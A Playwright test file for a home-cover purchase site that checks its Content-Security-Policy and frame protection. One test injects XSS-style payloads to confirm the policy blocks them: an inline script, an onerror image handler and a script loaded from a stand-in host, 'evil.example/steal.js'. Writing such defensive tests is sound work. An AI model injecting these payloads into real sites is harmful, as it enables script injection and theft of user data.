import { expect, type Page, test } from '@playwright/test';
import {
  basePath,
  choosePlan,
  confirmOrder,
  confirmPurchase,
  continueToNextStep,
  fillInAddress,
  fillInBankDetails,
  fillInBoilerSteps,
  fillInDetails,
} from '#tests/support/buyer.ts';

/** Collects CSP violations and uncaught errors on every page of this tab. */
async function violationsOn(page: Page): Promise<string[]> {
  const violations: string[] = [];
  await page.addInitScript(() => {
    document.addEventListener('securitypolicyviolation', (event) => {
      console.error(`policy: ${event.effectiveDirective} ${event.blockedURI} ${event.sample}`);
    });
  });
  page.on('console', (message) => {
    if (/policy/i.test(message.text())) violations.push(message.text());
  });
  page.on('pageerror', (error) => violations.push(error.message));
  return violations;
}

test('a whole purchase and every kind of page cause no CSP violation, and no policy has an unsafe source', async ({
  page,
}) => {
  const violations = await violationsOn(page);
  await choosePlan(page, 'Boiler and Service Care');
  await confirmOrder(page);
  await fillInBoilerSteps(page);
  await fillInAddress(page);
  await fillInDetails(page);
  await fillInBankDetails(page);
  await expect(page).toHaveURL(/\/summary$/);
  await continueToNextStep(page);
  await confirmPurchase(page);
  await expect(page).toHaveURL(`${basePath}/success`);
  for (const [path, heading] of [
    [`${basePath}?filterType=BOILER_AND_HEATING`, /./],
    [basePath, /./],
    [`${basePath}/documents/policy-terms-and-conditions`, /^Policy terms/],
    [`${basePath}/speak-to-an-expert`, /./],
    [`${basePath}/error`, /./],
    [`${basePath}/api/docs`, /./],
    [`${basePath}/plumbing-protect/summary`, /^Plumbing Protect/],
    [`${basePath}/no-such-plan`, /^We cannot find that page/],
    ['/%E0%A4%A', /^We cannot read that address/],
  ] as const) {
    const response = await page.goto(path);
    await expect(page.getByRole('heading', { level: 1, name: heading })).toBeVisible();
    expect(response?.headers()['content-security-policy'], path).not.toContain('unsafe');
  }
  expect(violations).toEqual([]);
});

test('scripts, event handlers and styles injected into a page are blocked', async ({ page }) => {
  const violations = await violationsOn(page);
  for (const path of [`${basePath}/plumbing-protect`, `${basePath}/no-such-plan`]) {
    await page.goto(path);
    await page.evaluate(() => {
      const script = document.createElement('script');
      script.textContent = 'document.title = "injected"';
      document.body.append(script);
      document.body.insertAdjacentHTML(
        'beforeend',
        '<img src="/none" alt="" onerror="document.title = \'injected\'"><p style="color: red">red</p>',
      );
      const foreign = document.createElement('script');
      foreign.src = 'https://evil.example/steal.js';
      document.body.append(foreign);
    });
    const refused = (part: string) =>
      expect.poll(() => violations.some((text) => text.startsWith(`policy: ${part}`)));
    await refused('script-src-elem inline').toBe(true);
    await refused('script-src-attr inline').toBe(true);
    await refused('script-src-elem https://evil.example').toBe(true);
    await refused('style-src-attr inline').toBe(true);
    await expect(page).not.toHaveTitle('injected');
    violations.length = 0;
  }
});

test('another origin cannot show our pages in a frame', async ({ page, baseURL }) => {
  await page.setContent(`<iframe src="${baseURL}${basePath}" title="ours"></iframe>`);
  const frame = page.frames()[1];
  await expect.poll(() => frame?.url()).toMatch(/^chrome-error:/);
});
